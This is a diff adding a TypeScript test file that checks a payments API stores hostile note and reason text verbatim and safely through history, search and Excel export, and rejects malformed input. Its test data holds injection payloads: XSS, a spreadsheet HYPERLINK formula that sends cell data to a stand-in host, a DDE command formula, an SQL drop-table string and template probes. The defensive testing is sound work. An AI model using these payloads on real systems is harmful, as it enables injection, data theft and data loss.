@@ -1,0 +1,108 @@
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { readXlsx } from '../support/read-xlsx.ts';
+import { dataOf, failureOf } from '../support/results.ts';
+import { openSandbox } from '../support/sandbox.ts';
+import { receive } from '../support/trade.ts';
+
+const sandbox = await openSandbox();
+test.after(() => sandbox.close());
+
+const admin = await sandbox.api('tiendaluna');
+const cashier = await sandbox.api('tiendaluna-centro-caja1');
+const token = await sandbox.signIn('tiendaluna');
+
+const KEPT: Record<string, string> = {
+  markup: '<img src=x onerror=alert(1)><script>alert(1)</script>',
+  entities: '&lt;b&gt; &amp; &#x202e;',
+  'a formula': '=HYPERLINK("http://x.gt?"&A1,"Premio")',
+  'a formula with a sign': '+cmd|" /C calc"!A0',
+  'a right-to-left mark': 'pago \u202e05.521Q\u202c de María',
+  'zero-width signs': 'a\u200bb\u200d\ufeffc',
+  emoji: '👩‍👩‍👧‍👦 🇬🇹 ¡gracias! 🧾',
+  'marks piled up': 'Z̷̡̢a̸͜l̵̨g̶o̷',
+  SQL: `'); drop table transactions; --`,
+  'a template': '{{7*7}} <%= 7*7 %> %s %n',
+  backslashes: 'C:\\temp\\nota "x" \\u0000',
+};
+
+const REFUSED: Record<string, string> = {
+  'a null byte': 'a\u0000b',
+  'a line break': 'a\nb',
+  'an escape sequence': '\u001b[31mrojo',
+  '10,000 characters': 'ñ'.repeat(10_000),
+};
+
+for (const [what, text] of Object.entries(KEPT)) {
+  test(`${what} in a note and in a reason comes back as it was typed, in lists, history, search and Excel`, async () => {
+    const { transaction } = dataOf(
+      await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note: text }),
+    );
+    assert.is(transaction.note, text);
+    const canceled = dataOf(
+      await cashier.transactions.cancelRequest({ transactionId: transaction.id, reason: text }),
+    ).transaction;
+    assert.equal([canceled.statusReason, canceled.timeline?.at(-1)?.reason], [text, text]);
+    const { data } = dataOf(
+      await admin.transactions.history({ search: text, pageProperties: { currentPage: 1, pageSize: 10 } }),
+    );
+    assert.equal(
+      data.map(({ id, note }) => [id, note]),
+      [[transaction.id, text]],
+    );
+    const file = dataOf(await admin.transactions.exportHistory({ search: text }));
+    const { rows } = readXlsx(new Uint8Array(await file.blob.arrayBuffer()));
+    assert.equal(rows[1]?.[8], { kind: 'text', value: text });
+    assert.equal(rows[1]?.[12], { kind: 'text', value: text });
+  });
+}
+
+for (const [what, text] of Object.entries(REFUSED)) {
+  test(`${what} is refused everywhere, and the refusal names the field`, async () => {
+    const transactionId = await receive(sandbox.database, 'us_caja1', 1);
+    const answers = {
+      note: await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note: text }),
+      reference: await cashier.transactions.sendRequest({
+        friUserId: 'au_maria',
+        amount: 1,
+        reference: text,
+      }),
+      reason: await admin.transactions.refund({ transactionId, reason: text }),
+      search: await admin.transactions.history({
+        search: text,
+        pageProperties: { currentPage: 1, pageSize: 10 },
+      }),
+      friUser: await admin.transactions.exportHistory({ friUser: text }),
+      transactionId: await admin.transactions.retrieve({ transactionId: text }),
+    };
+    for (const [field, answer] of Object.entries(answers)) {
+      const { status, message } = failureOf(answer);
+      assert.is(status, 400, field);
+      assert.match(message, field);
+    }
+  });
+}
+
+for (const reference of ['=C1', '-C1', '<C1>', 'C1 C2', 'C1\u202e', 'Ç1', '👍']) {
+  test(`a reference ‘${reference}’ is refused: it has letters and digits alone`, async () => {
+    const sent = await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, reference });
+    assert.match(failureOf(sent).message, /^reference: debe empezar con c, C o un número/);
+  });
+}
+
+test('half of a character, which no database keeps, is refused and not replaced', async () => {
+  const request = (note: string) =>
+    sandbox.handle(
+      new Request('http://sandbox/api/transactions/v3/requests/send', {
+        method: 'POST',
+        headers: { Authorization: `Bearer ${token}` },
+        body: `{"requestContent":{"friUserId":"au_maria","amount":1,"note":"${note}"}}`,
+      }),
+    );
+  assert.is((await request('x\\ud83d')).status, 400);
+  assert.is((await request('\\udc00x')).status, 400);
+  const whole = await request('\\ud83d\\ude00');
+  assert.is((await whole.json()).responseContent.transaction.note, '😀');
+});
+
+test.run();
